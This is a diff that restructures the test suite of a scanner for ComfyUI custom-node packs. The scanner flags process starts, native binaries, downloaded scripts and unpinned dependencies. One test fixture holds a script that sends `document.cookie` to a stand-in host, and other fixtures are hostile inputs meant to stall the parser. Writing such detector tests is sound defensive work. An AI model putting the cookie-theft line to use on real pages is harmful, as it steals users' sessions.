@@ -1,10 +1,11 @@
 import assert from 'node:assert/strict'
-import { describe, it, test } from 'node:test'
+import { describe, it } from 'node:test'
 import { openArchive } from './archive/reader.ts'
 import { sourceOfBytes } from './archive/source.ts'
 import { buildZip } from './archive/zip-builder.test-support.ts'
-import { inspectionLimits, inspectPack } from './inspect.ts'
+import { inspectPack } from './inspect.ts'
 import { filesOfArchive, filesOfRecord } from './pack-files.ts'
+import { inspectionLimits } from './pack-texts.ts'
 import { testParser } from './python/parser.test-support.ts'
 import { isBlocking } from './scan/finding.ts'
 
@@ -41,92 +42,94 @@ NODE_CLASS_MAPPINGS = {"Blur": Blur, "Able": Blur}
   'lib/fast.so': Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0),
 }
 
-test('an inspection has the facts, the comfy-nodes, the findings and the capabilities', async () => {
-  const inspection = await inspectPack(filesOfRecord(pack), parser)
-  assert.equal(inspection.manifest?.name, 'blur')
-  assert.deepEqual(inspection.readme, {
-    path: 'ReadMe.MD',
-    text: '# Blur\n',
-    format: 'markdown',
-    is_cut: false,
+describe('inspecting a pack', () => {
+  it('returns the facts, the comfy-nodes, the findings and the capabilities', async () => {
+    const inspection = await inspectPack(filesOfRecord(pack), parser)
+    assert.equal(inspection.manifest?.name, 'blur')
+    assert.deepEqual(inspection.readme, {
+      path: 'ReadMe.MD',
+      text: '# Blur\n',
+      format: 'markdown',
+      is_cut: false,
+    })
+    assert.deepEqual(
+      inspection.comfy_nodes.map((node) => node.comfy_node_name),
+      ['Able', 'Blur'],
+    )
+    assert.deepEqual(
+      inspection.findings.map(({ rule, file_path, line_number }) => [rule, file_path, line_number]),
+      [
+        ['other-package-index', 'requirements.txt', 2],
+        ['direct-dependency', 'pyproject.toml', undefined],
+        ['native-binary', 'lib/fast.so', undefined],
+        ['process-start', 'nodes.py', 18],
+        ['unpinned-dependency', 'requirements.txt', 1],
+      ],
+    )
+    assert.deepEqual(
+      inspection.capabilities.map(({ kind, subject, evidence }) => [
+        kind,
+        subject,
+        evidence[0]?.file,
+        evidence[0]?.line,
+      ]),
+      [
+        ['network', 'models.example.org', 'nodes.py', 8],
+        ['process', 'ffmpeg', 'nodes.py', 18],
+        ['native_code', 'lib/fast.so', 'lib/fast.so', 1],
+        ['server_route', 'GET /blur/models', 'nodes.py', 6],
+        ['frontend_script', './web', '__init__.py', 2],
+      ],
+    )
+    assert.equal(inspection.archive.files, 7)
+    assert.equal(inspection.archive.python_files, 2)
   })
-  assert.deepEqual(
-    inspection.comfy_nodes.map((node) => node.comfy_node_name),
-    ['Able', 'Blur'],
-  )
-  assert.deepEqual(
-    inspection.findings.map(({ rule, file_path, line_number }) => [rule, file_path, line_number]),
-    [
-      ['other-package-index', 'requirements.txt', 2],
-      ['direct-dependency', 'pyproject.toml', undefined],
-      ['native-binary', 'lib/fast.so', undefined],
-      ['process-start', 'nodes.py', 18],
-      ['unpinned-dependency', 'requirements.txt', 1],
-    ],
-  )
-  assert.deepEqual(
-    inspection.capabilities.map(({ kind, subject, evidence }) => [
-      kind,
-      subject,
-      evidence[0]?.file,
-      evidence[0]?.line,
-    ]),
-    [
-      ['network', 'models.example.org', 'nodes.py', 8],
-      ['process', 'ffmpeg', 'nodes.py', 18],
-      ['native_code', 'lib/fast.so', 'lib/fast.so', 1],
-      ['server_route', 'GET /blur/models', 'nodes.py', 6],
-      ['frontend_script', './web', '__init__.py', 2],
-    ],
-  )
-  assert.equal(inspection.archive.files, 7)
-  assert.equal(inspection.archive.python_files, 2)
-})
 
-test('the order of the files and where they lie change nothing', async () => {
-  const reversed = Object.fromEntries(Object.entries(pack).reverse())
-  const zip = buildZip({ entries: Object.entries(pack).map(([name, data]) => ({ name, data })) })
-  const archive = await openArchive(sourceOfBytes(zip))
-  const inspections = await Promise.all(
-    [filesOfRecord(pack), filesOfRecord(reversed), filesOfArchive(archive)].map((files) =>
-      inspectPack(files, parser),
-    ),
-  )
-  const [first, ...others] = inspections.map((inspection) => JSON.stringify(inspection))
-  for (const other of others) assert.equal(other, first)
-})
-
-test('an empty pack gives an inspection, not an error', async () => {
-  const { manifest, readme, findings, undecided } = await inspectPack(filesOfRecord({}), parser)
-  assert.equal(manifest, null)
-  assert.equal(readme, null)
-  assert.deepEqual(
-    findings.map((finding) => finding.rule),
-    ['manifest-missing'],
-  )
-  assert.equal(undecided.length, 1)
-})
-
-test('Python that is too large to be read holds the version back', async () => {
-  const limits = { ...inspectionLimits, pythonFileBytes: 10 }
-  const { findings } = await inspectPack(filesOfRecord({ '__init__.py': 'x = 1234567890\n' }), parser, {
-    limits,
+  it('gives the same result for any order and location of the files', async () => {
+    const reversed = Object.fromEntries(Object.entries(pack).reverse())
+    const zip = buildZip({ entries: Object.entries(pack).map(([name, data]) => ({ name, data })) })
+    const archive = await openArchive(sourceOfBytes(zip))
+    const inspections = await Promise.all(
+      [filesOfRecord(pack), filesOfRecord(reversed), filesOfArchive(archive)].map((files) =>
+        inspectPack(files, parser),
+      ),
+    )
+    const [first, ...others] = inspections.map((inspection) => JSON.stringify(inspection))
+    for (const other of others) assert.equal(other, first)
   })
-  const finding = findings.find((each) => each.rule === 'python-not-read')
-  assert.equal(finding?.severity, 'high')
-})
 
-test('a long README is cut between letters, and says so', async () => {
-  const limits = { ...inspectionLimits, readmeBytes: 5 }
-  const { readme } = await inspectPack(filesOfRecord({ 'README.md': 'aaaäöü' }), parser, { limits })
-  assert.deepEqual(readme, { path: 'README.md', text: 'aaaä', format: 'markdown', is_cut: true })
-  const cut = await inspectPack(filesOfRecord({ 'README.md': 'aaaäöü' }), parser, {
-    limits: { ...limits, readmeBytes: 4 },
+  it('returns an inspection for an empty pack, not an error', async () => {
+    const { manifest, readme, findings, undecided } = await inspectPack(filesOfRecord({}), parser)
+    assert.equal(manifest, null)
+    assert.equal(readme, null)
+    assert.deepEqual(
+      findings.map((finding) => finding.rule),
+      ['manifest-missing'],
+    )
+    assert.equal(undecided.length, 1)
   })
-  assert.equal(cut.readme?.text, 'aaa')
+
+  it('holds back a version with Python that is too large to read', async () => {
+    const limits = { ...inspectionLimits, pythonFileBytes: 10 }
+    const { findings } = await inspectPack(filesOfRecord({ '__init__.py': 'x = 1234567890\n' }), parser, {
+      limits,
+    })
+    const finding = findings.find((each) => each.rule === 'python-not-read')
+    assert.equal(finding?.severity, 'high')
+  })
+
+  it('truncates a long README between characters, and marks it', async () => {
+    const limits = { ...inspectionLimits, readmeBytes: 5 }
+    const { readme } = await inspectPack(filesOfRecord({ 'README.md': 'aaaäöü' }), parser, { limits })
+    assert.deepEqual(readme, { path: 'README.md', text: 'aaaä', format: 'markdown', is_cut: true })
+    const cut = await inspectPack(filesOfRecord({ 'README.md': 'aaaäöü' }), parser, {
+      limits: { ...limits, readmeBytes: 4 },
+    })
+    assert.equal(cut.readme?.text, 'aaa')
+  })
 })
 
-describe('reporting the file being inspected', () => {
+describe('progress reports of an inspection', () => {
   const pack = {
     '__init__.py': 'from .nodes import *\nfrom .tools import run\nrun()\n',
     'nodes.py': 'NODE_CLASS_MAPPINGS = {}\n',
@@ -159,52 +162,53 @@ describe('reporting the file being inspected', () => {
     )
   })
 
-  it('is silent while the work stays with the same file', async () => {
+  it('reports nothing while the work stays with the same file', async () => {
     const steps = await stepsOf(pack)
     assert.ok(steps.every((step, i) => step !== steps[i - 1]))
   })
 })
 
-test('hostile Python ends in an inspection', async () => {
-  const many = (line: string, count: number) => line.repeat(count)
-  const texts = [
-    many('exec(', 3000),
-    many('if x:\n ', 3000),
-    `${many('a = exec(a)\n', 3000)}`,
-    many('lambda: ', 5000),
-    `"""${many('x', 100_000)}`,
-    many('[', 100_000),
-    many('urlretrieve(', 20_000),
-    '\u0000\uFFFF\uD800',
-  ]
-  for (const text of texts) {
-    const inspection = await inspectPack(filesOfRecord({ '__init__.py': text }), parser)
-    assert.ok(inspection.undecided.length > 0)
-  }
-})
+describe('inspecting a pack', () => {
+  it('terminates on hostile Python', async () => {
+    const many = (line: string, count: number) => line.repeat(count)
+    const texts = [
+      many('exec(', 3000),
+      many('if x:\n ', 3000),
+      `${many('a = exec(a)\n', 3000)}`,
+      many('lambda: ', 5000),
+      `"""${many('x', 100_000)}`,
+      many('[', 100_000),
+      many('urlretrieve(', 20_000),
+      '\u0000\uFFFF\uD800',
+    ]
+    for (const text of texts) {
+      const inspection = await inspectPack(filesOfRecord({ '__init__.py': text }), parser)
+      assert.ok(inspection.undecided.length > 0)
+    }
+  })
 
-test('what is done for a whole file is done once, and not for each of its functions', async () => {
-  const body =
-    '    x = 1  # nothing that is worth reading, in more letters than a short function has\n'.repeat(6)
-  const indices = Array.from({ length: 300 }, (_, i) => i)
-  const functions = indices.map((i) => `def f${i}(a):\n${body}`).join('')
-  const calls = indices.map((i) => `f${i}(os.system)\n`).join('')
-  const subject = `match [\n${'#'.repeat(1_900)}\n`
-  const text = `import os\n${functions}${calls}"""\n${subject.repeat(700)}"""\n`
-  const rulesFor = async (source: string) => {
-    const { findings } = await inspectPack(filesOfRecord({ '__init__.py': source }), parser)
-    return findings.map(({ rule, severity }) => `${severity} ${rule}`)
-  }
-  assert.deepEqual(await rulesFor(text), ['medium manifest-missing'])
-  const tooMuch = `${text}"""\n${'match [\n'.repeat(60_000)}"""\n`
-  assert.deepEqual(await rulesFor(tooMuch), ['high python-not-read', 'medium manifest-missing'])
-})
+  it('does per-file work once, not for each function', async () => {
+    const body =
+      '    x = 1  # nothing that is worth reading, in more letters than a short function has\n'.repeat(6)
+    const indices = Array.from({ length: 300 }, (_, i) => i)
+    const functions = indices.map((i) => `def f${i}(a):\n${body}`).join('')
+    const calls = indices.map((i) => `f${i}(os.system)\n`).join('')
+    const subject = `match [\n${'#'.repeat(1_900)}\n`
+    const text = `import os\n${functions}${calls}"""\n${subject.repeat(700)}"""\n`
+    const rulesFor = async (source: string) => {
+      const { findings } = await inspectPack(filesOfRecord({ '__init__.py': source }), parser)
+      return findings.map(({ rule, severity }) => `${severity} ${rule}`)
+    }
+    assert.deepEqual(await rulesFor(text), ['medium manifest-missing'])
+    const tooMuch = `${text}"""\n${'match [\n'.repeat(60_000)}"""\n`
+    assert.deepEqual(await rulesFor(tooMuch), ['high python-not-read', 'medium manifest-missing'])
+  })
 
-test('no text of an inspection has null characters or half letters', async () => {
-  const odd = '"a\\x00b\\ud800"'
-  const inspection = await inspectPack(
-    filesOfRecord({
-      '__init__.py': `import os, subprocess
+  it('leaves no null characters or unpaired surrogates in any text', async () => {
+    const odd = '"a\\x00b\\ud800"'
+    const inspection = await inspectPack(
+      filesOfRecord({
+        '__init__.py': `import os, subprocess
 class A:
     """\\x00"""
     RETURN_TYPES = (${odd},)
@@ -215,64 +219,65 @@ subprocess.run([${odd}])
 os.getenv(${odd})
 NODE_CLASS_MAPPINGS = {"A": A, ${odd}: A, "\\ud800": A}
 `,
-      'pyproject.toml': '[project]\nname = "a\\u0000"\n[project.urls]\n"a\\u0000" = "b"\n',
-      'locales/fr/nodeDefs.json':
-        '{"A": {"display_name": "\\u0000", "inputs": {"\\ud800": {"name": "\\u0000"}}}}',
-    }),
-    parser,
-  )
-  const text = JSON.stringify({ ...inspection, readme: null })
-  assert.doesNotMatch(text.replaceAll('\\\\', ''), /\\u0000|\\ud[89a-f]/i)
-  assert.deepEqual(
-    inspection.comfy_nodes.map((node) => node.comfy_node_name),
-    ['A'],
-  )
-})
+        'pyproject.toml': '[project]\nname = "a\\u0000"\n[project.urls]\n"a\\u0000" = "b"\n',
+        'locales/fr/nodeDefs.json':
+          '{"A": {"display_name": "\\u0000", "inputs": {"\\ud800": {"name": "\\u0000"}}}}',
+      }),
+      parser,
+    )
+    const text = JSON.stringify({ ...inspection, readme: null })
+    assert.doesNotMatch(text.replaceAll('\\\\', ''), /\\u0000|\\ud[89a-f]/i)
+    assert.deepEqual(
+      inspection.comfy_nodes.map((node) => node.comfy_node_name),
+      ['A'],
+    )
+  })
 
-test('scripts of a page that nests too deeply are reported, and so is a script behind many others', async () => {
-  const theft = '<script>fetch("https://example.test/?c=" + document.cookie)</script>'
-  const { findings } = await inspectPack(
-    filesOfRecord({
-      'web/deep.html': `${'<div>'.repeat(100_000)}${'</b>'.repeat(100_000)}${theft}`,
-      'web/many.html': `${'<script>let a</script>\n'.repeat(1_000)}<script>let b; ${theft.slice(8)}`,
-    }),
-    parser,
-  )
-  assert.deepEqual(
-    findings.filter(isBlocking).map(({ rule, file_path }) => `${rule} ${file_path}`),
-    ['python-not-read web/deep.html', 'python-not-read web/many.html'],
-  )
-})
+  it('reports scripts of a page that nests too deeply, and a script behind many others', async () => {
+    const theft = '<script>fetch("https://example.test/?c=" + document.cookie)</script>'
+    const { findings } = await inspectPack(
+      filesOfRecord({
+        'web/deep.html': `${'<div>'.repeat(100_000)}${'</b>'.repeat(100_000)}${theft}`,
+        'web/many.html': `${'<script>let a</script>\n'.repeat(1_000)}<script>let b; ${theft.slice(8)}`,
+      }),
+      parser,
+    )
+    assert.deepEqual(
+      findings.filter(isBlocking).map(({ rule, file_path }) => `${rule} ${file_path}`),
+      ['python-not-read web/deep.html', 'python-not-read web/many.html'],
+    )
+  })
 
-test('a page that the pack does not serve may load what counts its readers', async () => {
-  const page = '<script src="https://example.test/count.js"></script>'
-  const files = { '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.html': page, 'docs/a.html': page }
-  const { findings } = await inspectPack(filesOfRecord(files), parser)
-  assert.deepEqual(
-    findings
-      .filter(({ rule }) => rule === 'downloaded-script')
-      .map(({ severity, file_path }) => `${severity} ${file_path}`),
-    ['high web/a.html', 'medium docs/a.html'],
-  )
-})
+  it('allows a page that the pack does not serve to load a visitor counter', async () => {
+    const page = '<script src="https://example.test/count.js"></script>'
+    const files = { '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.html': page, 'docs/a.html': page }
+    const { findings } = await inspectPack(filesOfRecord(files), parser)
+    assert.deepEqual(
+      findings
+        .filter(({ rule }) => rule === 'downloaded-script')
+        .map(({ severity, file_path }) => `${severity} ${file_path}`),
+      ['high web/a.html', 'medium docs/a.html'],
+    )
+  })
 
-test('the requirements of a pack come from its files and from what its install script installs', async () => {
-  const files = {
-    '__init__.py': '',
-    'pyproject.toml':
-      '[project]\nname = "a"\nversion = "1.0.0"\nrequires-python = ">=3.10"\ndependencies = ["numpy>=2"]\n',
-    'requirements.txt': 'numpy>=2\npillow\n',
-    'install.py':
-      'import subprocess, sys\ndef main():\n    subprocess.check_call([sys.executable, "-m", "pip", "install", "onnxruntime-gpu==1.20"])\nmain()\n',
-  }
-  const { requirements } = await inspectPack(filesOfRecord(files), parser)
-  assert.deepEqual(
-    requirements.map(({ file, line, kind, text }) => `${file}:${line} ${kind} ${text}`),
-    [
-      'pyproject.toml:4 python >=3.10',
-      'pyproject.toml:5 stated numpy>=2',
-      'requirements.txt:2 stated pillow',
-      'install.py:3 script onnxruntime-gpu==1.20',
-    ],
-  )
+  it('reads requirements from the files of a pack and from what its install script installs', async () => {
+    const files = {
+      '__init__.py': '',
+      'pyproject.toml':
+        '[project]\nname = "a"\nversion = "1.0.0"\nrequires-python = ">=3.10"\ndependencies = ["numpy>=2"]\n',
+      'requirements.txt': 'numpy>=2\npillow\n',
+      'install.py':
+        'import subprocess, sys\ndef main():\n    subprocess.check_call([sys.executable, "-m", "pip", "install", "onnxruntime-gpu==1.20"])\nmain()\n',
+    }
+    const { requirements } = await inspectPack(filesOfRecord(files), parser)
+    assert.deepEqual(
+      requirements.map(({ file, line, kind, text }) => `${file}:${line} ${kind} ${text}`),
+      [
+        'pyproject.toml:4 python >=3.10',
+        'pyproject.toml:5 stated numpy>=2',
+        'requirements.txt:2 stated pillow',
+        'install.py:3 script onnxruntime-gpu==1.20',
+      ],
+    )
+  })
 })
